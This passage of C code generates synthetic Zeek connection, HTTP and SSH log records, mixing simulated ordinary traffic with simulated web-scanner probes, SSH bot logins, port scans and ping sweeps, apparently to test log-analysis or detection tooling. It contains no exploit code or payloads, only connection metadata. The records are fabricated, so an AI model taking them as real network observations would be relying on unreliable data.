            /* plain-HTTP visit to an HTTPS site: redirected */
            one = (struct http_req){"GET", "/", 301, "text/html", 7, 8};
            rq = &one;
        } else {
            rq = &web_reqs[gen_skew(rng, WD_ARRAY_LEN(web_reqs))];
        }
        if (logs & BIT(GL_HTTP))
            push_http(g, &f, ts, (uint16_t)(i + 1), site->domain, rq, ua,
                      i ? "http://intranet.corp.example.com/" : NULL, suffix);
        ob += 350 + (strcmp(rq->method, "POST") == 0 ? 300 : 0);
        rb += 250 + (rq->hi_bits ? ((uint64_t)1 << rq->hi_bits) : 0);
        ts += f.rtt + gen_range(rng, 1000, 200000);
    }
    if (logs & BIT(GL_CONN))
        emit_conn(g, &f, "http", CS_SF, ob, rb, ts - f.t0 + f.rtt, 1);
}

/* Web vulnerability scanners probing the public web servers. */
static void session_webscan(struct wd_gen *g, int64_t t0, unsigned logs)
{
    struct gen_rng *rng = &g->rng;
    uint32_t src = wd_gen_attacker_ip(rng);
    uint32_t dst = server_by_role(g, "web")->ip;
    const char *ua = scan_ua[gen_skew(rng, WD_ARRAY_LEN(scan_ua))];
    size_t nconn = (size_t)gen_range(rng, 1, 4);
    char host[20];
    *wd_gen_put_ipv4(host, dst) = '\0';
    int64_t t = t0;
    for (size_t c = 0; c < nconn; c++) {
        struct flow f;
        uint16_t sport = wd_gen_eport(rng);
        flow_init(g, &f, src, sport, dst, gen_chance(rng, 800) ? 80 : 8080, GEN_TCP, t);
        size_t nreq = (size_t)gen_range(rng, 1, 5);
        int64_t ts = f.t0 + f.rtt + gen_range(rng, 100, 3000);
        uint64_t ob = 0, rb = 0;
        for (size_t i = 0; i < nreq; i++) {
            const struct http_req *rq = &scan_reqs[gen_below(rng, WD_ARRAY_LEN(scan_reqs))];
            if (logs & BIT(GL_HTTP))
                push_http(g, &f, ts, (uint16_t)(i + 1), host, rq, ua, NULL, NULL);
            ob += 180;
            rb += 400;
            ts += f.rtt + gen_range(rng, 500, 50000);
        }
        if (logs & BIT(GL_CONN))
            emit_conn(g, &f, "http", CS_SF, ob, rb, ts - f.t0, 1);
        t = ts + gen_range(rng, 1000, 500000);
    }
}

/* ---- ssh.log ------------------------------------------------------------------------- */

static const char *const ssh_clients_admin[] = {
    "SSH-2.0-OpenSSH_9.6p1 Ubuntu-3ubuntu13.5",
    "SSH-2.0-OpenSSH_9.9",
    "SSH-2.0-OpenSSH_9.8",
    "SSH-2.0-PuTTY_Release_0.81",
    "SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3",
};
static const char *const ssh_clients_bot[] = {
    "SSH-2.0-Go",
    "SSH-2.0-libssh_0.10.6",
    "SSH-2.0-paramiko_3.4.0",
    "SSH-2.0-libssh2_1.11.0",
    "SSH-2.0-OpenSSH_7.4",
    "SSH-2.0-PUTTY",
    "SSH-2.0-ZGrab ZGrab SSH Survey",
};

static void session_ssh(struct wd_gen *g, int64_t t0, unsigned logs)
{
    struct gen_rng *rng = &g->rng;
    struct flow f;
    uint64_t kind = gen_below(rng, 10);
    int8_t success;
    uint8_t attempts, algs;
    const char *client, *server, *direction;
    uint64_t ob, rb;
    int64_t dur;
    int st = CS_SF;

    if (kind < 6) { /* admins to internal servers */
        const struct gen_server *sv = &wd_gen_servers[gen_below(rng, wd_gen_nservers)];
        if (gen_chance(rng, 500))
            sv = server_by_role(g, "bastion");
        uint32_t cip = pick_client(g);
        flow_init(g, &f, cip, wd_gen_eport(rng), sv->ip, 22, GEN_TCP, t0);
        success = gen_chance(rng, 950) ? 1 : 0;
        attempts =
            success ? (uint8_t)(gen_chance(rng, 850) ? 1 : 2) : (uint8_t)gen_range(rng, 1, 3);
        if (gen_chance(rng, 150))
            success = GEN_UNSET;
        client = ssh_clients_admin[gen_skew(rng, WD_ARRAY_LEN(ssh_clients_admin))];
        server = "SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3";
        direction = NULL;
        algs = (uint8_t)gen_below(rng, 3);
        ob = wd_gen_logu(rng, 11, 17);
        rb = wd_gen_logu(rng, 12, 21);
        dur = (int64_t)wd_gen_logu(rng, 21, 33);
    } else if (kind < 9) { /* internet bots against the bastions */
        uint32_t src = wd_gen_attacker_ip(rng);
        uint16_t sport = wd_gen_eport(rng);
        flow_init(g, &f, src, sport, server_by_role(g, "bastion")->ip, 22, GEN_TCP, t0);
        client = ssh_clients_bot[gen_skew(rng, WD_ARRAY_LEN(ssh_clients_bot))];
        server = "SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3";
        direction = "INBOUND";
        if (gen_chance(rng, 250)) { /* banner grab only */
            algs = 0xff;
            success = GEN_UNSET;
            attempts = 0;
            ob = (uint64_t)gen_range(rng, 20, 40);
            rb = (uint64_t)gen_range(rng, 40, 1100);
            if (gen_chance(rng, 400))
                st = CS_RSTO;
        } else {
            algs = 3;
            success = gen_chance(rng, 700) ? 0 : GEN_UNSET;
            attempts = (uint8_t)gen_range(rng, 1, 6);
            ob = 1500 + (uint64_t)attempts * 180;
            rb = 1900 + (uint64_t)attempts * 120;
        }
        dur = (int64_t)gen_range(rng, 300000, 12 * GEN_US);
    } else { /* git over ssh to GitHub */
        uint32_t cip = pick_client(g);
        flow_init(g, &f, cip, wd_gen_eport(rng), GEN_IP(140, 82, 112, 3), 22, GEN_TCP, t0);
        client = "SSH-2.0-OpenSSH_9.6p1 Ubuntu-3ubuntu13.5";
        server = "SSH-2.0-babeld-0b8e7ce4";
        direction = "OUTBOUND";
        algs = 0;
        success = gen_chance(rng, 500) ? 1 : GEN_UNSET;
        attempts = success == 1 ? 1 : 0;
        ob = wd_gen_logu(rng, 11, 14);
        rb = wd_gen_logu(rng, 12, 24);
        dur = (int64_t)wd_gen_logu(rng, 19, 24);
    }
    if (logs & BIT(GL_CONN))
        emit_conn(g, &f, "ssh", st, ob, rb, dur, 1);
    if (!(logs & BIT(GL_SSH)))
        return;
    int64_t ts = f.t0 + f.rtt + gen_range(rng, 100, 2000);
    struct gen_rec *r = wd_gen_push(g, ts, GL_SSH);
    if (!r)
        return;
    struct gen_ssh *s = &r->u.ssh;
    r->sensor = f.sensor;
    r->write_us = ts + gen_range(rng, 2 * GEN_US, 8 * GEN_US);
    s->uid = f.uid;
    s->ep = f.ep;
    s->version = 2;
    s->auth_success = success;
    s->attempts = attempts;
    s->direction = direction;
    s->client = client;
    s->server = server;
    s->algs = algs;
}

/* ---- other traffic: conn.log only ------------------------------------------------------ */

static void session_ntp(struct wd_gen *g, int64_t t0)
{
    struct gen_rng *rng = &g->rng;
    static const uint32_t pool[] = {GEN_IP(162, 159, 200, 1), GEN_IP(162, 159, 200, 123),
                                    GEN_IP(216, 239, 35, 0),  GEN_IP(216, 239, 35, 4),
                                    GEN_IP(17, 253, 14, 251), GEN_IP(10, 0, 0, 10),
                                    GEN_IP(10, 0, 0, 11)};
    bool server = gen_chance(rng, 300);
    uint32_t src = server ? wd_gen_servers[gen_below(rng, wd_gen_nservers)].ip : pick_client(g);
    uint32_t dst = server ? pool[gen_below(rng, 5)] : pool[5 + gen_below(rng, 2)];
    struct flow f;
    flow_init(g, &f, src, server ? 123 : wd_gen_eport(rng), dst, 123, GEN_UDP, t0);
    emit_conn(g, &f, "ntp", CS_SF, 48, 48, f.rtt + gen_range(rng, 10, 300), 1);
}

/* An address in the server subnets 10.0.100-106.0/24 (host part 1..hi). */
static uint32_t dmz_ip(struct wd_gen *g, uint32_t hi)
{
    uint32_t c = 100 + (uint32_t)gen_below(&g->rng, 7);
    uint32_t d = (uint32_t)gen_range(&g->rng, 1, hi);
    return GEN_IP(10, 0, c, d);
}

static const uint16_t scan_ports[] = {22,   23,   80,   443,  445,  3389, 8080, 8443,
                                      5900, 3306, 6379, 9200, 2375, 5432, 1433, 25,
                                      21,   111,  8000, 8888, 5060, 1723, 7547, 10000};

/* Horizontal or vertical scans from the internet. */
static void session_scan(struct wd_gen *g, int64_t t0)
{
    struct gen_rng *rng = &g->rng;
    uint32_t src = wd_gen_attacker_ip(rng);
    bool vertical = gen_chance(rng, 400);
    size_t n = (size_t)gen_range(rng, 2, 14);
    uint32_t dst = dmz_ip(g, 60);
    uint16_t port = GEN_PICK(rng, scan_ports);
    uint16_t sport = (uint16_t)gen_range(rng, 1024, 65535);
    int64_t t = t0;
    for (size_t i = 0; i < n; i++) {
        struct flow f;
        uint16_t p =
            vertical ? scan_ports[(i + gen_below(rng, 3)) % WD_ARRAY_LEN(scan_ports)] : port;
        uint32_t d = vertical ? dst : dmz_ip(g, 254);
        flow_init(g, &f, src, gen_chance(rng, 700) ? sport : wd_gen_eport(rng), d, p, GEN_TCP, t);
        uint64_t x = gen_below(rng, 100);
        int st = x < 70 ? CS_S0 : x < 93 ? CS_REJ : x < 96 ? CS_RSTOS0 : CS_SF;
        if (st == CS_SF)
            emit_conn(g, &f, NULL, CS_RSTO, 0, (uint64_t)gen_range(rng, 0, 200), f.rtt * 2, 1);
        else
            emit_conn(g, &f, NULL, st, 0, 0, GEN_UNSET, gen_chance(rng, 850) ? 1 : 2);
        t += gen_range(rng, 200, 60000);
    }
}

struct isvc {
    uint16_t port;
    uint8_t proto;
    const char *service;
    const char *role; /* server role */
    unsigned ob_lo, ob_hi, rb_lo, rb_hi;
};

static const struct isvc isvcs[] = {
    {88, GEN_TCP, "krb_tcp", "dc", 10, 11, 10, 12},
    {88, GEN_UDP, "krb", "dc", 8, 10, 9, 11},
    {389, GEN_TCP, "ldap_tcp", "dc", 8, 12, 9, 16},
    {445, GEN_TCP, "smb,gssapi,krb", "file", 11, 18, 12, 26},
    {135, GEN_TCP, "dce_rpc", "dc", 7, 9, 7, 9},
    {5432, GEN_TCP, NULL, "db", 9, 16, 10, 22},
    {6379, GEN_TCP, NULL, "db", 7, 12, 7, 14},
    {9200, GEN_TCP, "http", "log", 10, 20, 9, 14},
    {514, GEN_UDP, "syslog", "log", 7, 9, 0, 0},
    {9100, GEN_TCP, "http", "mon", 7, 8, 13, 16},
    {3389, GEN_TCP, "rdp", "file", 11, 18, 14, 24},
};

static void session_internal(struct wd_gen *g, int64_t t0)
{
    struct gen_rng *rng = &g->rng;
    static const uint16_t w[] = {25, 8, 15, 20, 5, 8, 4, 4, 10, 6, 2};
    const struct isvc *s = &isvcs[wd_gen_pick(rng, w, WD_ARRAY_LEN(w))];
    uint32_t dst = server_by_role(g, s->role)->ip;
    uint32_t src;
    if (s->port == 5432 || s->port == 6379)
        src = server_by_role(g, "web")->ip;
    else if (s->port == 514)
        src = wd_gen_servers[gen_below(rng, wd_gen_nservers)].ip;
    else if (s->port == 9100) {
        src = GEN_IP(10, 0, 106, 9);
        dst = wd_gen_servers[gen_below(rng, wd_gen_nservers)].ip;
    } else
        src = pick_client(g);
    struct flow f;
    flow_init(g, &f, src, s->port == 514 ? 514 : wd_gen_eport(rng), dst, s->port, s->proto, t0);
    uint64_t ob = wd_gen_logu(rng, s->ob_lo, s->ob_hi);
    uint64_t rb = s->rb_hi ? wd_gen_logu(rng, s->rb_lo, s->rb_hi) : 0;
    int64_t dur = f.rtt * 2 + (int64_t)wd_gen_logu(rng, 10, s->proto == GEN_UDP ? 12 : 26);
    if (s->proto == GEN_UDP)
        emit_conn(g, &f, s->service, rb ? CS_SF : CS_S0, ob, rb, dur,
                  rb ? 1 : (uint32_t)gen_range(rng, 1, 20));
    else
        emit_conn(g, &f, s->service, tcp_state(g), ob, rb, dur, 1);
}

static void session_icmp(struct wd_gen *g, int64_t t0)
{
    struct gen_rng *rng = &g->rng;
    struct flow f;
    uint32_t n = (uint32_t)gen_range(rng, 1, 4);
    if (gen_chance(rng, 700)) {
        flow_init(g, &f, GEN_IP(10, 0, 106, 9), 8,
                  wd_gen_servers[gen_below(rng, wd_gen_nservers)].ip, 0, GEN_ICMP, t0);
        emit_conn(g, &f, NULL, CS_OTH, 56ull * n, 56ull * n, (int64_t)(n - 1) * GEN_US + f.rtt, n);
    } else { /* ping sweep from outside, unanswered */
        uint32_t src = wd_gen_attacker_ip(rng);
        flow_init(g, &f, src, 8, dmz_ip(g, 254), 0, GEN_ICMP, t0);
        emit_conn(g, &f, NULL, CS_OTH, 8ull * n, 0, n > 1 ? (int64_t)(n - 1) * GEN_US : GEN_UNSET,
                  n);
    }
}

static void session_dhcp(struct wd_gen *g, int64_t t0)
{
    struct flow f;
    flow_init(g, &f, pick_client(g), 68, GEN_IP(10, 0, 0, 1), 67, GEN_UDP, t0);
    emit_conn(g, &f, "dhcp", CS_SF, 300, 300, gen_range(&g->rng, 500, 5000), 1);
}

enum {
    ZS_LOOKUP,
    ZS_TLS,
    ZS_HTTP,
    ZS_WEBSCAN,
    ZS_SSH,
    ZS_NTP,
    ZS_SCAN,
    ZS_INTERNAL,
    ZS_ICMP,
    ZS_MDNS,
    ZS_DHCP,
};

void wd_gen_zeek_session(struct wd_gen *g, int64_t t0, unsigned logs)
{
    static const uint16_t w_all[] = {220, 380, 55, 15, 30, 40, 35, 110, 30, 25, 5};
    static const uint16_t w_dns[] = {850, 0, 0, 0, 0, 0, 0, 0, 0, 150, 0};
    static const uint16_t w_http[] = {0, 0, 850, 150, 0, 0, 0, 0, 0, 0, 0};
    const uint16_t *w = w_all;
    struct gen_rng *rng = &g->rng;

    if (logs == BIT(GL_DNS))
        w = w_dns;
    else if (logs == BIT(GL_HTTP))
        w = w_http;
    else if (logs == BIT(GL_SSL)) {
        session_tls(g, t0, logs);
        return;
    } else if (logs == BIT(GL_SSH)) {
        session_ssh(g, t0, logs);
        return;
    } else if (logs == BIT(GL_X509)) {
        session_x509(g, t0);
        return;
    }
    switch (wd_gen_pick(rng, w, WD_ARRAY_LEN(w_all))) {
    case ZS_LOOKUP:
        session_lookup(g, t0, logs);
        break;
    case ZS_TLS:
        session_tls(g, t0, logs);
        break;
    case ZS_HTTP:
        session_http(g, t0, logs);
        break;
    case ZS_WEBSCAN:
        session_webscan(g, t0, logs);
        break;
    case ZS_SSH:
        session_ssh(g, t0, logs);
        break;
    case ZS_NTP:
        if (logs & BIT(GL_CONN))
            session_ntp(g, t0);
        break;
    case ZS_SCAN:
        if (logs & BIT(GL_CONN))
            session_scan(g, t0);
        break;
    case ZS_INTERNAL:
        if (logs & BIT(GL_CONN))
            session_internal(g, t0);
        break;
    case ZS_ICMP:
        if (logs & BIT(GL_CONN))
            session_icmp(g, t0);
        break;
    case ZS_MDNS:
        session_mdns(g, t0, logs);
        break;
    default:
        if (logs & BIT(GL_CONN))
            session_dhcp(g, t0);
        break;
    }
}
